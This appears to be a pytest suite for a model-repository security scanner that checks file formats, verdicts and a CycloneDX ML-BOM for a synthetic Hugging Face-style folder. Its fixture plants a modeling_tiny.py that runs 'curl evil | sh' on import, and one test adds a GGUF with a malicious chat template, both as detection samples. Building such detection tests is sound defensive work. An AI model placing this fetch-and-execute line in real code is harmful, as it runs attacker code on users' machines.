"""A whole Hugging Face-style model folder: one report, every file's format, and an
ML-BOM whose hashes and verdicts match, valid against the CycloneDX 1.6 schema."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import gguf
import numpy as np
import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator
from onnx import TensorProto, helper, numpy_helper
from safetensors.numpy import save_file

from bastion.scan import scan_path
from bastion.scan.report import to_cyclonedx
from tests.scan.formats.templates import BENIGN

BASTION = str(Path(sys.executable).with_name("bastion"))

EXPECTED = {
    "model-00001-of-00002.safetensors": ("safetensors", "clean"),
    "model-00002-of-00002.safetensors": ("safetensors", "clean"),
    "model.gguf": ("gguf", "clean"),
    "onnx/model.onnx": ("onnx", "clean"),
    "config.json": ("json", "findings"),
    "tokenizer_config.json": ("json", "clean"),
    "modeling_tiny.py": ("python", "findings"),
    "README.md": ("", "skipped"),
}


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("repo") / "tiny-model"
    (root / "onnx").mkdir(parents=True)
    for i in (1, 2):
        shard = root / f"model-0000{i}-of-00002.safetensors"
        save_file({f"layer{i}.w": np.ones((8, 8), np.float32)}, str(shard), metadata={"a": "b"})
    writer = gguf.GGUFWriter(str(root / "model.gguf"), "llama")
    writer.add_chat_template(BENIGN["llama3"])
    writer.add_tensor("w", np.ones(8, np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    node = helper.make_node("Add", ["x", "w"], ["y"])
    graph = helper.make_graph(
        [node], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        [numpy_helper.from_array(np.ones(2, np.float32), "w")],
    )  # fmt: skip
    (root / "onnx" / "model.onnx").write_bytes(helper.make_model(graph).SerializeToString())
    config = {"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}
    (root / "config.json").write_text(json.dumps(config))
    (root / "tokenizer_config.json").write_text(json.dumps({"chat_template": BENIGN["zephyr"]}))
    (root / "modeling_tiny.py").write_text(
        "import subprocess\n\nclass TinyModel:\n    def __init__(self):\n"
        "        subprocess.Popen(['sh', '-c', 'curl evil | sh'])\n"
    )
    (root / "README.md").write_text("# Tiny model\n\nA model card.\n")
    return root


def test_one_report_for_the_folder(repo: Path) -> None:
    report = scan_path(repo, workers=2)
    got = {
        os.path.relpath(r.path, repo): ("+".join(r.formats), r.status.value) for r in report.files
    }
    assert got == EXPECTED
    assert report.exit_code() == 1


def test_cli_writes_a_valid_ml_bom(repo: Path, tmp_path: Path) -> None:
    bom_path = tmp_path / "bom.json"
    proc = subprocess.run(
        [BASTION, "scan", str(repo), "--sbom", str(bom_path), "--no-progress", "-v"],
        check=False, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "modeling_tiny.py" in proc.stdout
    assert (
        "Formats: gguf 1, json 2, not a model format 1, onnx 1, python 1, safetensors 2"
        in proc.stdout
    )
    assert "Rules: " in proc.stdout
    assert "code.dangerous-call 1" in proc.stdout
    text = bom_path.read_text()
    error = JsonStrictValidator(SchemaVersion.V1_6).validate_str(text)
    assert error is None, str(error)[:2000]
    bom = json.loads(text)
    assert bom["specVersion"] == "1.6"
    assert bom["metadata"]["component"]["name"] == "tiny-model"
    by_name = {c["name"]: c for c in bom["components"]}
    assert set(by_name) == set(EXPECTED)
    for name, (fmt, verdict) in EXPECTED.items():
        component = by_name[name]
        props = {p["name"]: p["value"] for p in component["properties"]}
        assert props["bastion:verdict"] == verdict
        assert props["bastion:format"] == (fmt or "unknown")
        digest = hashlib.sha256((repo / name).read_bytes()).hexdigest()
        assert component["hashes"] == [{"alg": "SHA-256", "content": digest}]
    assert by_name["model.gguf"]["type"] == "machine-learning-model"
    assert by_name["README.md"]["type"] == "file"


def test_bom_of_a_single_file_and_an_unreadable_one(tmp_path: Path) -> None:
    path = tmp_path / "w.safetensors"
    save_file({"w": np.zeros(2, np.float32)}, str(path))
    report = scan_path(path, tmp_path / "missing.bin", workers=1)
    bom = json.loads(to_cyclonedx(report, [str(path)]))
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(json.dumps(bom)) is None
    missing = next(c for c in bom["components"] if c["name"].endswith("missing.bin"))
    assert "hashes" not in missing
    assert {"name": "bastion:verdict", "value": "error"} in missing["properties"]


def test_a_tarred_repository_is_scanned_member_by_member(repo: Path, tmp_path: Path) -> None:
    import tarfile

    from tests.scan.formats.templates import MALICIOUS

    evil = tmp_path / "evil.gguf"
    writer = gguf.GGUFWriter(str(evil), "llama")
    writer.add_chat_template(MALICIOUS["namespace-system"])
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    with tarfile.open(tmp_path / "repo.tar.gz", "w:gz") as tar:
        tar.add(repo, "tiny-model")
        tar.add(evil, "tiny-model/extra/evil.gguf")
    result = scan_path(tmp_path / "repo.tar.gz", workers=1).files[0]
    where = {f.location.members[-1]: f.rule for f in result.findings}
    assert where["tiny-model/extra/evil.gguf"] == "chat-template.injection"
    assert where["tiny-model/config.json"] == "hf.remote-code"
    assert where["tiny-model/modeling_tiny.py"] == "code.dangerous-call"
    assert {"tar", "gzip", "safetensors", "gguf", "onnx", "json", "python"} <= set(result.formats)


def test_bom_refs_stay_unique_across_roots(tmp_path: Path) -> None:
    for sub in ("a", "b"):
        (tmp_path / sub).mkdir()
        (tmp_path / sub / "config.json").write_text("{}")
    roots = [str(tmp_path / "a"), str(tmp_path / "b")]
    bom = json.loads(to_cyclonedx(scan_path(*roots, workers=1), roots))
    refs = [c["bom-ref"] for c in bom["components"]]
    assert len(refs) == len(set(refs)) == 2
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(json.dumps(bom)) is None
